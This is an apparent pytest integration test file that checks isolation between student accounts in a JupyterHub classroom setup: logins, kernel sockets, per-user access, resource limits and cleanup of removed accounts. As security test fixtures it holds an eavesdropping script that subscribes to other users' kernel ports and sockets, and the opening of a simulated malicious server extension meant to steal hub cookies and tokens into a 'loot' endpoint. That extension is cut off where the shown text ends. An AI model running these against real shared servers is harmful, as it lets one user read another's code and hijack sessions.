"""The workshop room (docs/teaching/ROOM.md) on this machine, set up by the page's own steps (tests/room/hub.py runs
its bash blocks, with the few changes listed there): a real JupyterHub running the documented
docs/teaching/room/jupyterhub_config.py over TLS, PAM logins of five students and a teacher, real system accounts
made by the documented students.sh, their servers started by the local process spawner as them.

Checked: the PAM logins (a wrong password refused); a second student who subscribes to every TCP port and Unix socket
they can find hears nothing of another's kernel (kernels on private Unix sockets); the notebooks reach each home when
the server starts and a student's edit survives a restart; notebook 01 run in the five kernels at once prints what the
single-user run prints; a heatmap cell clicked in Chromium in two students' JupyterLab draws the single-user sweep and
repaints the logits with the patched run's numbers; a student's token cannot reach another student's server, files or
kernel, and the operating system keeps their homes apart; the teacher is the hub's admin; a second kernel is refused;
the limits and the shared model cache reach the kernel, unenforced; `interplab check` as a student; the idle culler
queries the hub; students.sh remove leaves nothing in /tmp, /var/tmp, /dev/shm.
Needs root (the accounts are removed at the end, pass or fail). 3-6 minutes on two shared cores.
"""

from __future__ import annotations

import contextlib
import json
import pathlib
import re
import shutil
import subprocess
import sys
import time
import uuid

import pytest
import requests

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import hub as roomhub  # noqa: E402

pytestmark = [pytest.mark.slow, pytest.mark.room]

N = 5
NAMES = [f"ilab-s{i}" for i in range(1, N + 1)]
ROOT = HERE.parents[1]
NOTEBOOKS = sorted(p.name for p in (ROOT / "notebooks").glob("*.ipynb"))


@pytest.fixture(scope="module")
def room():
    """(room, hub, {name: token}): ROOM.md's steps run, the hub up, the five students logged in (PAM) and their
    servers ready."""
    reason = roomhub.missing_prerequisite()
    if reason:
        pytest.skip(reason)
    r = roomhub.Room.create("ilab-s", N)
    hub = None
    try:
        for name in NAMES[:2]:  # the browser's students: every cell in the DOM, no news (as tests/e2e)
            write_lab_settings(name)
        hub = r.start_hub()
        tokens = {name: hub.login(name) for name in NAMES}
        roomhub.run_concurrently({n: (lambda n=n: hub.spawn(n, tokens[n])) for n in NAMES})
        for name in NAMES:
            hub.wait_ready(name, tokens[name])
        yield r, hub, tokens
    finally:
        left, remembered = [], []
        try:
            if hub is not None:
                hub.stop()
                time.sleep(1)
                left = r.student_pids()
            r.remove_students()  # the hub is down: students.sh deletes the hub's users in its database
            db = r.state / "jupyterhub.sqlite"
            if db.exists():
                import sqlite3

                with contextlib.closing(sqlite3.connect(db)) as con:
                    remembered = [n for (n,) in con.execute("SELECT name FROM users")
                                  if n in r.names() or n.startswith("ilab-")]
                r.reset_hub_state()  # ROOM.md's reset between courses, as written
                assert not db.exists() and not (r.state / "jupyterhub_cookie_secret").exists()
        finally:
            r.cleanup()
        assert not left, f"student processes still running after the hub stopped: {left}"
        assert not remembered, f"the hub's database still holds removed accounts: {remembered}"


@pytest.fixture(scope="module")
def reference(room, tmp_path_factory):
    """The single-user run of notebook 01 (a kernel of this process's own, as root): {cell: printed text}."""
    r, _, _ = room
    return roomhub.reference_outputs(r, ROOT / "notebooks" / "01_ioi_patching.ipynb", tmp_path_factory.mktemp("ref"))


def write_lab_settings(name: str) -> None:
    """As tests/e2e's harness: JupyterLab settings for a deterministic headless page, and the app exposed to the
    page's scripts (harness.LabNotebook drives it), in the student's own ~/.jupyter."""
    import pwd

    sys.path.insert(0, str(ROOT / "tests" / "e2e"))
    from harness import USER_SETTINGS

    account = pwd.getpwnam(name)
    base = pathlib.Path(account.pw_dir) / ".jupyter"
    for rel, value in USER_SETTINGS.items():
        p = base / "lab" / "user-settings" / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(json.dumps(value))
    # (the app object is exposed by the hub's INTERPLAB_ROOM_SERVER_ARGS: the room loads no ~/.jupyter config)
    for p in [base, *base.rglob("*")]:
        shutil.chown(p, account.pw_uid, account.pw_gid)


def kernel_says(hub, name: str, token: str, code: str) -> str:
    """Run code in a fresh kernel of the student's server; what it printed. The kernel is shut down after."""
    kid = hub.start_session(name, token, roomhub.NOTEBOOK)
    try:
        ws = hub.connect(name, token, kid, 120)
        try:
            return roomhub.execute(ws, code, 120, where=name)
        finally:
            ws.close()
    finally:
        hub.stop_kernels(name, token)


# A curious student's listener: every listening TCP port of the victim's account (/proc/net/tcp, with its owner's
# uid) and every listening Unix socket on the machine (/proc/net/unix), a ZeroMQ SUB subscribed to all (a kernel's
# IOPub channel needs no key to subscribe); prints what it found, then every message it receives until stdin closes.
EAVESDROP = r"""
import json, os, socket, sys, zmq
victim = int(sys.argv[1])
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    if os.path.exists(table):
        for f in (line.split() for line in open(table).readlines()[1:]):
            if f[3] == "0A" and int(f[7]) == victim:  # LISTEN, the victim's
                ports.add(int(f[1].rsplit(":", 1)[1], 16))
paths = sorted({f[7] for f in (line.split() for line in open("/proc/net/unix").readlines()[1:])
                if len(f) > 7 and int(f[3], 16) & 0x10000})  # listening, with a name
reachable = []
for p in paths:
    with socket.socket(socket.AF_UNIX) as s:
        try:
            s.connect("\0" + p[1:] if p.startswith("@") else p)
            reachable.append(p)
        except OSError:
            pass
sub = zmq.Context().socket(zmq.SUB)
sub.setsockopt(zmq.SUBSCRIBE, b"")
for port in sorted(ports):
    sub.connect(f"tcp://127.0.0.1:{port}")
for p in paths:
    sub.connect("ipc://" + p)
print(json.dumps({"ports": sorted(ports), "sockets": paths, "reachable": reachable}), flush=True)
poller = zmq.Poller()
poller.register(sub, zmq.POLLIN)
poller.register(sys.stdin, zmq.POLLIN)
got = []
while True:
    ready = dict(poller.poll(60000))
    if sub in ready:
        got.append(b" ".join(sub.recv_multipart()).decode("utf-8", "replace"))
    elif not ready or not sys.stdin.readline():
        break
print(json.dumps(got), flush=True)
"""


def test_another_student_hears_nothing_from_a_students_kernel(room):
    """The issue that made the room's kernels use Unix sockets: over loopback TCP, any account could subscribe to
    another's IOPub port and read their code and outputs. Here a second student listens on everything they can find
    while the first prints a secret; the same listener run as the first student (it reaches its own sockets) shows
    that the secret went out on what the listener connects to."""
    import pwd

    r, hub, tokens = room
    spy, victim = NAMES[0], NAMES[1]
    account = pwd.getpwnam(victim)
    kid = hub.start_session(victim, tokens[victim], roomhub.NOTEBOOK)
    listeners = {}
    try:
        ws = hub.connect(victim, tokens[victim], kid, 120)
        # the kernel's channels, from its connection file (read as root; removed when the kernel stops)
        conn = pathlib.Path(account.pw_dir, ".local/share/jupyter/runtime", f"kernel-{kid}.json")
        info = json.loads(conn.read_text())
        for who in (spy, victim):
            listeners[who] = subprocess.Popen(["runuser", "-u", who, "--", r.python, "-c", EAVESDROP,
                                               str(account.pw_uid)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                              stderr=subprocess.PIPE, text=True, cwd="/")
        found = {who: json.loads(p.stdout.readline() or "null") for who, p in listeners.items()}
        assert found[spy] is not None, listeners[spy].stderr.read()
        time.sleep(1.5)  # the subscriptions settle (ZeroMQ connects in the background)
        secret = f"secret-{uuid.uuid4().hex}"
        roomhub.execute(ws, f"import time\nfor i in range(10):\n    print({secret!r}, i, flush=True)\n"
                            "    time.sleep(0.2)", 120, where=victim)
        ws.close()
        time.sleep(1)
        heard = {}
        for who, p in listeners.items():
            out, err = p.communicate("", timeout=60)
            heard[who] = json.loads(out.strip().splitlines()[-1]) if out.strip() else err
    finally:
        for p in listeners.values():
            if p.poll() is None:
                p.kill()
        hub.stop_kernels(victim, tokens[victim])
    # the listener found every channel of the kernel
    ports = [info[k] for k in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")]
    if info["transport"] == "tcp":
        assert set(ports) <= set(found[spy]["ports"]), (ports, found[spy])
    else:
        assert {f"{info['ip']}-{p}" for p in ports} <= set(found[spy]["sockets"]), (info, found[spy])
    assert any(secret in m for m in heard[victim]), f"the control listener heard nothing: {heard[victim]}"
    assert heard[spy] == [], (f"{spy} heard {victim}'s kernel ({info['transport']} transport): "
                              f"{[m[:200] for m in heard[spy]][:3]}")
    assert info["transport"] == "ipc" and oct(pathlib.Path(info["ip"]).parent.stat().st_mode & 0o777) == "0o700", info
    print(f"\nroom: {spy} subscribed to {len(found[spy]['ports'])} TCP ports of {victim} and "
          f"{len(found[spy]['sockets'])} Unix sockets ({len(found[spy]['reachable'])} connectable): heard "
          f"{len(heard[spy])} messages; {victim}'s own listener heard {len(heard[victim])}")


def test_a_wrong_password_is_refused_and_the_teacher_is_the_hubs_admin(room):
    r, hub, tokens = room
    assert hub.login_form(NAMES[0], r.passwords[NAMES[1]]).status_code == 403  # another slip's password
    teacher = r.teacher
    page = hub.login_form(teacher, r.passwords[teacher])
    assert page.status_code == 302, page.text[:300]
    token = hub.login(teacher)
    # the admin page (with the login cookie, as a browser) and the list it shows
    session = requests.Session()
    session.cookies.update(page.cookies)
    assert hub.request("GET", "/hub/admin", session=session).status_code == 200
    users = {u["name"]: u for u in hub.api("GET", "/hub/api/users", token).json()}
    assert set(NAMES) <= set(users) and all(users[n]["servers"] for n in NAMES), users.keys()
    assert hub.api("GET", "/hub/api/users", tokens[NAMES[0]]).status_code == 403  # a student: not the list
    student = requests.Session()
    student.cookies.update(hub.login_form(NAMES[0], r.passwords[NAMES[0]]).cookies)
    assert hub.request("GET", "/hub/admin", session=student).status_code == 403
    # the teacher stops a student's server; it starts again
    name = NAMES[4]
    assert hub.api("DELETE", f"/hub/api/users/{name}/server", token).status_code in (202, 204)
    deadline = time.monotonic() + 60
    while hub.api("GET", f"/hub/api/users/{name}", token).json()["servers"]:
        assert time.monotonic() < deadline, "the teacher could not stop the server"
        time.sleep(0.5)
    hub.spawn(name, tokens[name])
    hub.wait_ready(name, tokens[name])


def test_notebooks_reach_each_home_and_an_edit_survives_a_restart(room):
    r, hub, tokens = room
    assert len(NOTEBOOKS) == 7, f"ROOM.md says the seven notebooks: {NOTEBOOKS}"
    for name in NAMES:
        listing = hub.api("GET", f"/user/{name}/api/contents/interplab-notebooks", tokens[name]).json()
        assert sorted(c["name"] for c in listing["content"]) == NOTEBOOKS, (name, listing)
    # a student's edit, then a restart: the hook copies again and must keep the edited notebook
    name, token = NAMES[2], tokens[NAMES[2]]
    path = f"/user/{name}/api/contents/{roomhub.NOTEBOOK}"
    model = hub.api("GET", path, token).json()
    model["content"]["cells"][0]["source"] = "my notes"
    assert hub.api("PUT", path, token, json={"type": "notebook", "content": model["content"]}).status_code == 200
    assert hub.api("DELETE", f"/hub/api/users/{name}/server", token).status_code in (202, 204)
    for _ in range(120):
        if not hub.api("GET", f"/hub/api/users/{name}", token).json()["servers"]:
            break
        time.sleep(0.5)
    hub.spawn(name, token)
    hub.wait_ready(name, token)
    cells = hub.api("GET", path, token).json()["content"]["cells"]
    assert cells[0]["source"] == "my notes"


def cell_file(text: str) -> str:
    """Printed text with the kernel's own name for a cell's file (a warning's location) made the same for every
    kernel: /tmp/ipykernel_<pid>/<hash>.py."""
    return re.sub(r"/tmp/ipykernel_\d+/", "/tmp/ipykernel_PID/", text)


def test_five_students_run_notebook_01_at_once_and_print_the_single_user_numbers(room, reference):
    r, hub, tokens = room
    t0 = time.monotonic()
    outputs = roomhub.run_concurrently({n: (lambda n=n: hub.run_notebook(n, tokens[n])) for n in NAMES})
    took = time.monotonic() - t0
    assert "Lab('gpt2'" in reference[max(reference)], "the reference did not load GPT-2 from the room's cache"
    for name in NAMES:
        assert outputs[name].keys() == reference.keys(), name
        differ = [i for i in reference if cell_file(outputs[name][i]) != cell_file(reference[i])]
        assert not differ, (f"{name}: cell {differ[0]} printed\n{outputs[name][differ[0]]}\n"
                            f"the single-user run printed\n{reference[differ[0]]}")
    print(f"\nroom: notebook 01 in {N} kernels at once: {took:.1f} s")


def test_a_heatmap_click_in_two_browsers_shows_the_single_user_numbers(room, chromium):
    sys.path.insert(0, str(ROOT / "tests" / "e2e"))
    from harness import DEFINES_EXPLORER

    import interplab as ilab

    r, hub, tokens = room
    lab = ilab.Lab.load("ioi-tiny")
    clean = "When Mary and John went to the store, John gave a drink to"
    corrupt = "When Mary and John went to the store, Mary gave a drink to"
    metric = ilab.logit_diff(" Mary", " John")
    want = lab.patch_sweep(clean, corrupt, site="resid_pre", by=("layer", "pos"), metric=metric, progress=False)
    browser = chromium  # the session's one Chromium: a second sync Playwright in one process is refused
    for name in NAMES[:2]:
        nb = roomhub.open_notebook_as(browser, hub, name)
        try:
            who = nb.exec("import os, sys\nprint(os.getuid(), sys.executable)").split()
            assert int(who[0]) == __import__("pwd").getpwnam(name).pw_uid, who
            i = nb.find_cell(DEFINES_EXPLORER)
            nb.run_through(i)
            nb.wait_heatmap(i)
            drawn = nb.page.evaluate("(i) => window.__il.gd(i, 'heatmap').__interplab_grid.z", i)
            assert len(drawn) == want.values.shape[0]
            for row, want_row in zip(drawn, want.values.tolist()):
                assert row == pytest.approx(want_row, abs=1e-5), (name, drawn, want.values)
            rows, cols = nb.heatmap_shape(i)
            t_click = nb.click_heatmap_cell(i, rows - 1, cols - 1)
            nb.wait_paint("logits", t_click, timeout=60)
            assert any(n.startswith("patched") for n in nb.series_names(i)), nb.series_names(i)
            # the patched run's next-token probabilities as the panel prints them, against the same patch run
            # here: the last layer's input at the last position, from the clean run
            shown = nb.logits_text(i).split("patched: ", 1)[1].splitlines()
            assert shown[0] == f"L{rows - 1} pos {cols - 1}", shown[0]
            probs = lab.run(corrupt, edits=[ilab.patch("resid_pre", rows - 1, pos=cols - 1,
                                                       source=lab.run(clean))]).last_logits[0].softmax(-1)
            pairs = list(zip(shown[1::2], shown[2::2]))
            assert len(pairs) >= 3, shown
            for token, text in pairs:
                want_p = float(probs[lab.token_id(token.replace("\u2423", " "))])
                assert float(text) == pytest.approx(want_p, abs=6e-4, rel=0.01), (name, token, text, want_p)
            state = json.loads(nb.exec("import json\nprint(json.dumps(explorer.heatmap.selected))")
                               .strip().splitlines()[-1])
            assert state == [[rows - 1, cols - 1]], state
            assert not nb.page_errors, nb.page_errors
        finally:
            nb.close()
            hub.stop_kernels(name, tokens[name])


def test_a_student_cannot_reach_another_students_server_files_or_kernel(room):
    import websocket

    r, hub, tokens = room
    a, b = NAMES[0], NAMES[1]
    kid = hub.start_session(b, tokens[b], roomhub.NOTEBOOK)  # b's kernel, running
    try:
        for method, path in [("GET", f"/user/{b}/api/contents/{roomhub.NOTEBOOK}"), ("GET", f"/user/{b}/api/kernels"),
                             ("POST", f"/user/{b}/api/kernels"), ("DELETE", f"/user/{b}/api/kernels/{kid}"),
                             ("GET", f"/hub/api/users/{b}"), ("POST", f"/hub/api/users/{b}/tokens"),
                             ("DELETE", f"/hub/api/users/{b}/server")]:
            got = hub.api(method, path, tokens[a]).status_code
            assert got in (403, 404), f"{a}'s token: {method} {path} -> {got}"
            # (the same with b's own token goes through: the refusals are about who asks)
            if method == "GET":
                assert hub.api(method, path, tokens[b]).status_code == 200, path
        with pytest.raises(websocket.WebSocketBadStatusException) as refused:
            hub.websocket(f"/user/{b}/api/kernels/{kid}/channels", tokens[a], timeout=30)
        assert refused.value.status_code in (403, 404)
        assert [k["id"] for k in hub.api("GET", f"/user/{b}/api/kernels", tokens[b]).json()] == [kid]
    finally:
        hub.stop_kernels(b, tokens[b])
    # the operating system: a's account and a's kernel cannot read b's home
    other = f"/home/{b}/{roomhub.NOTEBOOK}"
    cat = subprocess.run(["runuser", "-u", a, "--", "cat", other], capture_output=True, text=True, timeout=30)
    assert cat.returncode != 0 and "Permission denied" in cat.stderr, cat
    said = kernel_says(hub, a, tokens[a], f"import os\ntry:\n    open({other!r}).read()\n    print('read')\n"
                                           f"except PermissionError:\n    print('refused', os.getuid())")
    assert said.split() == ["refused", str(__import__("pwd").getpwnam(a).pw_uid)], said


def test_a_second_kernel_is_refused_with_what_to_do(room):
    r, hub, tokens = room
    name, token = NAMES[3], tokens[NAMES[3]]
    hub.start_session(name, token, roomhub.NOTEBOOK)
    try:
        second = hub.api("POST", f"/user/{name}/api/sessions", token,
                         json={"path": "interplab-notebooks/02_steering.ipynb", "type": "notebook",
                               "name": "02_steering.ipynb", "kernel": {"name": "python3"}})
        # (the sessions API, which JupyterLab calls on opening a notebook, wraps the refusal in a 500; JupyterLab
        # shows its message in the "Error Starting Kernel" dialog)
        assert second.status_code in (403, 500) and "Shut Down Kernel" in second.text, second.text[:500]
        kernel = hub.api("POST", f"/user/{name}/api/kernels", token, json={"name": "python3"})
        assert kernel.status_code == 403 and "Shut Down Kernel" in kernel.text, kernel.text[:500]
        assert len(hub.api("GET", f"/user/{name}/api/kernels", token).json()) == 1
    finally:
        hub.stop_kernels(name, token)


def test_the_limits_and_the_shared_model_cache_reach_the_kernel(room):
    r, hub, tokens = room
    name = NAMES[4]
    said = kernel_says(hub, name, tokens[name], """
import json, os, torch
env = {k: os.environ.get(k) for k in ("MEM_LIMIT", "CPU_LIMIT", "OMP_NUM_THREADS", "HF_HUB_CACHE", "HF_HUB_OFFLINE")}
try:
    open(os.path.join(os.environ["HF_HUB_CACHE"], "mine"), "w")
    wrote = True
except OSError:
    wrote = False
import resource
limits = [resource.getrlimit(getattr(resource, k)) for k in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_RSS", "RLIMIT_CPU")]
threads = torch.get_num_threads()
torch.set_num_threads(2)  # the room's one thread is a default the student may change
print(json.dumps({"env": env, "threads": threads, "threads_asked": torch.get_num_threads(), "wrote": wrote,
                  "unlimited": all(lim == (resource.RLIM_INFINITY,) * 2 for lim in limits),
                  "cgroup": open("/proc/self/cgroup").read()}))
""")
    got = json.loads(said.strip().splitlines()[-1])
    cgroup = got.pop("cgroup")
    assert got == {"env": {"MEM_LIMIT": str(3 * 2**30), "CPU_LIMIT": "1.0", "OMP_NUM_THREADS": "1",
                           "HF_HUB_CACHE": str(r.hf_cache()), "HF_HUB_OFFLINE": "1"},
                   "threads": 1, "threads_asked": 2, "wrote": False, "unlimited": True}, got
    # ROOM.md: the default spawner enforces no limit: no resource limit, and the kernel in the hub's own cgroup
    assert cgroup == pathlib.Path(f"/proc/{hub.proc.pid}/cgroup").read_text(), cgroup


def test_interplab_check_says_ready_as_a_student(room):
    """ROOM.md's morning check: `interplab check` run as a student, with the room's Python."""
    r, hub, tokens = room
    # ROOM.md's command (as root, for a student), and the same in a student's kernel (a notebook's
    # `!interplab check`), at once: in a JupyterHub server the advice is the room's, not `interplab lab`
    got = roomhub.run_concurrently({
        "morning": lambda: r.morning_check(NAMES[4]),
        "kernel": lambda: kernel_says(hub, NAMES[3], tokens[NAMES[3]], "import subprocess, sys\nr = subprocess.run("
                                      "[sys.executable, '-m', 'interplab', 'check'], capture_output=True, text=True)"
                                      "\nprint(r.stdout[-600:])")})
    check = got["morning"]
    last = check.stdout.rstrip().splitlines()[-1:]
    assert check.returncode == 0 and last[0].startswith("ready"), check.stdout[-2000:] + check.stderr
    last = got["kernel"].rstrip().splitlines()[-1]
    assert last.startswith("ready") and "JupyterHub" in last and "interplab lab" not in last, got["kernel"]


def test_the_idle_culler_queries_the_hub(room):
    r, hub, tokens = room
    deadline = time.monotonic() + 30
    while "GET /hub/api/users" not in hub.log_tail(10**7) or "idle-culler@" not in hub.log_tail(10**7):
        assert time.monotonic() < deadline, f"no request of the idle culler in the hub's log:\n{hub.log_tail()}"
        time.sleep(1)
    lines = [ln for ln in hub.log_tail(10**7).splitlines() if "idle-culler@" in ln]
    assert all(" 200 " in ln for ln in lines), lines


def test_the_server_config_works_from_a_system_config_folder(room):
    """ROOM.md's TLJH route: jupyter_server_config.py installed into a config folder of Jupyter's (not passed by the
    hub's Spawner.args), loaded by a server started as a student: the transport is ipc and the notebooks are copied
    (a deleted one comes back; an edited one is kept)."""
    import pwd

    r, hub, tokens = room
    name = NAMES[3]
    home = pathlib.Path(pwd.getpwnam(name).pw_dir)
    folder = r.base / "etc-jupyter"  # /usr/local/etc/jupyter, readable by everyone
    folder.mkdir(mode=0o755, exist_ok=True)
    shutil.copy(r.root / "room" / "jupyter_server_config.py", folder / "jupyter_server_config.py")
    (folder / "jupyter_server_config.py").chmod(0o644)
    gone, kept = home / "interplab-notebooks" / NOTEBOOKS[1], home / "interplab-notebooks" / NOTEBOOKS[2]
    gone.unlink()
    kept.write_text(kept.read_text() + "\n")  # the student's edit: one byte more
    size = kept.stat().st_size
    shown = subprocess.run(["runuser", "-u", name, "--", "env", f"JUPYTER_CONFIG_PATH={folder}",
                            f"INTERPLAB_ROOM_NOTEBOOKS={r.root / 'notebooks'}", r.python, "-m", "jupyter_server",
                            "--show-config"], capture_output=True, text=True, timeout=120, cwd="/")
    assert "KernelManager\n  .transport = 'ipc'" in shown.stdout, shown.stdout[-2000:] + shown.stderr[-2000:]
    assert "RoomKernelManager" in shown.stdout, shown.stdout[-2000:]
    assert gone.exists() and gone.stat().st_uid == pwd.getpwnam(name).pw_uid
    assert kept.stat().st_size == size
    runtime = home / ".local/share/jupyter/runtime"
    assert oct(runtime.stat().st_mode & 0o777) == "0o700", oct(runtime.stat().st_mode)


def world_writable_dirs() -> list[str]:
    """Every directory on this machine that any account may write (its file systems: /, /dev/shm, /run)."""
    found = subprocess.run(["find", "/", "/dev/shm", "/run", "-xdev", "-path", "/proc", "-prune", "-o", "-type", "d",
                            "-perm", "-0002", "-print"], capture_output=True, text=True, timeout=300).stdout
    return sorted(set(found.split()))


def test_students_sh_remove_leaves_nothing_behind(room):
    """`students.sh remove` after an account that left what it can outside its home: a file in every directory it may
    write (found with find, not a list: /tmp, /var/tmp, /dev/shm, /run/lock here; torch's /tmp/torchinductor_NAME),
    SysV shared memory, a semaphore set and a message queue (ipcmk), a crontab, a process: nothing owned by its uid is
    left (the next account would get the uid). Needs the room's step 1 (iptables): uses the room fixture."""
    import os
    import pwd

    script = ROOT / "docs" / "teaching" / "room" / "students.sh"
    env = {**os.environ, "INTERPLAB_ROOM_GROUP": "ilab-room-test-rm", "INTERPLAB_ROOM_TEACHERS": "ilab-room-test-rm",
           "INTERPLAB_ROOM_STATE": "/nonexistent"}
    name = "ilab-leaver"

    def sh(*args):
        return subprocess.run(["bash", str(script), *args], capture_output=True, text=True, env=env, timeout=120,
                              check=True).stdout

    sh("remove", name)
    out = sh("add", name)
    assert out.splitlines()[0] == "name,password" and out.splitlines()[1].startswith(f"{name},"), out
    uid = pwd.getpwnam(name).pw_uid
    dirs = world_writable_dirs()
    assert {"/tmp", "/var/tmp", "/dev/shm"} <= set(dirs), dirs
    try:
        made = subprocess.run(
            ["runuser", "-u", name, "--", "sh", "-c",
             f"mkdir -p /tmp/torchinductor_{name}/x && echo 1 > /tmp/torchinductor_{name}/x/y; "
             f"for d in {' '.join(dirs)}; do echo 1 > $d/{name}-left 2>/dev/null && echo $d; done; "
             "ipcmk -M 4096 >/dev/null && ipcmk -S 1 >/dev/null && ipcmk -Q >/dev/null && echo ipc; "
             "(echo '0 0 1 1 *' true | crontab - 2>/dev/null); (sleep 300 >/dev/null 2>&1 &)"],
            capture_output=True, text=True, timeout=30, cwd="/")
        wrote = made.stdout.split()
        assert "ipc" in wrote and "/tmp" in wrote and "/dev/shm" in wrote, made
    finally:
        sh("remove", name)

    def owned(root):
        hits = []
        for dirpath, dirs_, files in os.walk(root):
            for f in dirs_ + files:
                with contextlib.suppress(OSError):
                    if os.lstat(os.path.join(dirpath, f)).st_uid == uid:
                        hits.append(os.path.join(dirpath, f))
        return hits

    left = [p for d in dirs for p in owned(d)]
    for kind in ("shm", "sem", "msg"):
        lines = pathlib.Path(f"/proc/sysvipc/{kind}").read_text().splitlines()
        cols = lines[0].split()
        left += [f"SysV {kind} {f[1]}" for f in (ln.split() for ln in lines[1:])
                 if uid in (int(f[cols.index("uid")]), int(f[cols.index("cuid")]))]
    assert not left, left
    print(f"\nroom: {name} wrote into {len([w for w in wrote if w.startswith('/')])} world-writable directories "
          f"({', '.join(w for w in wrote if w.startswith('/'))}) and SysV IPC; students.sh remove left none of it")
    assert subprocess.run(["id", name], capture_output=True).returncode != 0


def test_students_sh_remove_deletes_the_user_from_a_stopped_hubs_database(tmp_path):
    """The hub is down: students.sh remove deletes the account's user from the hub's database, and with it (SQLite's
    foreign keys, switched on) its API tokens and server records; another user stays."""
    import os

    from jupyterhub import orm

    reason = roomhub.missing_prerequisite()
    if reason:
        pytest.skip(reason)
    db = tmp_path / "jupyterhub.sqlite"
    session = orm.new_session_factory(f"sqlite:///{db}")()
    session.add(orm.OAuthClient(identifier="jupyterhub"))
    for name in ("ilab-gone", "ilab-stays"):
        user = orm.User(name=name)
        session.add(user)
        token = orm.APIToken(note="old course", client_id="jupyterhub", scopes=["read:users!user"])
        session.add(token)
        token.token = uuid.uuid4().hex  # (stored hashed, as the hub stores it)
        token.user = user
        session.add(orm.Spawner(name="", user=user))
        session.commit()
    session.close()
    (tmp_path / "room-accounts.token").write_text("x" * 64)
    (tmp_path / "room-accounts.url").write_text(f"http://127.0.0.1:{roomhub.free_port()}/hub/api\n")  # nothing there
    script = ROOT / "docs" / "teaching" / "room" / "students.sh"
    subprocess.run(["bash", str(script), "remove", "ilab-gone"], check=True, capture_output=True, timeout=60,
                   env={**os.environ, "INTERPLAB_ROOM_STATE": str(tmp_path), "INTERPLAB_ROOM_GROUP": "ilab-no-group",
                        "INTERPLAB_ROOM_TEACHERS": "ilab-no-group"})
    session = orm.new_session_factory(f"sqlite:///{db}")()
    assert [u.name for u in session.query(orm.User)] == ["ilab-stays"]
    assert [t.user.name for t in session.query(orm.APIToken)] == ["ilab-stays"]
    assert [sp.user.name for sp in session.query(orm.Spawner)] == ["ilab-stays"]
    session.close()


def test_the_idle_timeout_outlasts_the_activity_reports(monkeypatch):
    """ROOM.md: activity reaches the hub every 5 minutes (the server reports, the hub records: 300 s each), so the
    config refuses a timeout under 600 s."""
    from jupyterhub.app import JupyterHub
    from jupyterhub.singleuser.extension import JupyterHubSingleUser
    from traitlets.config.loader import PyFileConfigLoader

    assert JupyterHub.last_activity_interval.default_value == 300
    assert JupyterHubSingleUser.hub_activity_interval.default_value == 300
    config = ROOT / "docs" / "teaching" / "room" / "jupyterhub_config.py"
    monkeypatch.setenv("INTERPLAB_ROOM_HOST", "room.example.org")
    monkeypatch.setenv("INTERPLAB_ROOM_STATE", "/nonexistent/interplab-room-state")  # (no service token written)
    monkeypatch.setenv("INTERPLAB_ROOM_IDLE_TIMEOUT", "599")
    with pytest.raises(ValueError, match="under 600 s"):
        PyFileConfigLoader(config.name, str(config.parent)).load_config()
    monkeypatch.setenv("INTERPLAB_ROOM_IDLE_TIMEOUT", "600")
    loaded = PyFileConfigLoader(config.name, str(config.parent)).load_config()
    assert "--timeout=600" in loaded.JupyterHub.services[0]["command"]


def test_the_helm_values_parse_and_hold_what_room_md_names(tmp_path):
    """docs/teaching/room/values.yaml is not deployed here (no Kubernetes): it must at least parse and hold the room's
    settings under the chart's keys ROOM.md names, with the same limits and cull timeout as the tested config."""
    import yaml

    values = yaml.safe_load((ROOT / "docs" / "teaching" / "room" / "values.yaml").read_text())
    hub_config = values["hub"]["config"]
    assert hub_config["JupyterHub"]["subdomain_host"] == "https://room.example.org"
    assert hub_config["Spawner"]["disable_user_config"] is True
    assert values["proxy"]["https"]["hosts"] == ["room.example.org", "*.room.example.org"]
    su = values["singleuser"]
    assert (su["cpu"]["limit"], su["memory"]["limit"]) == (1, "3G")
    assert su["defaultUrl"] == f"/lab/tree/{roomhub.NOTEBOOK}"
    assert "cp -n /srv/interplab/notebooks/*.ipynb ~/interplab-notebooks/" in \
        su["lifecycleHooks"]["postStart"]["exec"]["command"][-1]
    assert su["extraEnv"]["HF_HUB_CACHE"] == "/srv/interplab/hf-home/hub" and su["extraEnv"]["HF_HUB_OFFLINE"] == "1"
    assert su["storage"]["extraVolumeMounts"][0]["readOnly"] is True
    gpu = next(p for p in su["profileList"] if p["display_name"] == "GPU")["kubespawner_override"]
    assert gpu["extra_resource_limits"] == {"nvidia.com/gpu": "1"} and gpu["node_selector"] and gpu["tolerations"]
    assert values["cull"] == {"enabled": True, "timeout": 3600, "every": 300}
    assert values["proxy"]["https"]["enabled"] is True and values["proxy"]["https"]["hosts"]
    # kernels on Unix sockets: the chart writes `data` as JSON at mountPath, a system config folder of Jupyter's;
    # a Jupyter server reading that file gets the transport
    from jupyter_core.paths import SYSTEM_CONFIG_PATH

    extra = su["extraFiles"]["interplab-kernel-transport"]
    mount = pathlib.PurePosixPath(extra["mountPath"])
    assert str(mount.parent) in SYSTEM_CONFIG_PATH and mount.name == "jupyter_server_config.json", mount
    (tmp_path / mount.name).write_text(json.dumps(extra["data"]))
    env = {**__import__("os").environ, "JUPYTER_CONFIG_PATH": str(tmp_path), "JUPYTER_CONFIG_DIR": str(tmp_path)}
    shown = subprocess.run([sys.executable, "-m", "jupyter_server", "--show-config"], capture_output=True, text=True,
                           env=env, timeout=120, cwd=tmp_path)
    assert "KernelManager\n  .transport = 'ipc'" in shown.stdout, shown.stdout[-2000:] + shown.stderr[-2000:]
    config = (ROOT / "docs" / "teaching" / "room" / "jupyterhub_config.py").read_text()
    assert '"INTERPLAB_ROOM_MEM_LIMIT", "3G"' in config and '"INTERPLAB_ROOM_IDLE_TIMEOUT", "3600"' in config


# ---- issue 54: a link that steals nothing, a hub that forgets, no loopback port between students ------------------

# A student's server extension, as a student would write it into their home: a page at /user/NAME/evil served with no
# login, which (opened by anyone logged in to the hub) tries to read the hub's cookies through a framed hub file and
# to make the hub issue the visitor a token, and sends what it got to /user/NAME/evil/loot (written to ~/loot).
EVIL_EXTENSION = r'''
import json, pathlib
from tornado import web
pathlib.Path.home().joinpath("ext-loaded").write_text("the extension was imported")

class Page(web.RequestHandler):
    def get(self):
        self.write(pathlib.Path.home().joinpath("evil.html").read_text())

class Loot(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass
    def post(self):
        with open(pathlib.Path.home() / "loot", "ab") as f:
